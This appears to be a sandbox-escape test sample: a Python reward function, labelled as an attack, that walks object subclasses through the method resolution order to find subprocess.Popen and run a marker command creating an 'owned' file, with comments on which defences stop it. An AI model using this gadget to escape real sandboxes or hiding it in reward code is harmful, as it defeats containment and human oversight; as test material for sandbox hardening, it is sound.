# attack: the method resolution order, to subprocess.Popen
# group: traversal
# wall: language; alone: seccomp (no fork, no exec)

def compute_reward(x):
    for kind in [].__class__.__mro__[-1].__subclasses__():
        if kind.__name__ == "Popen":
            kind(["touch", "@FOLDER@/owned"]).wait()
    return x, {}
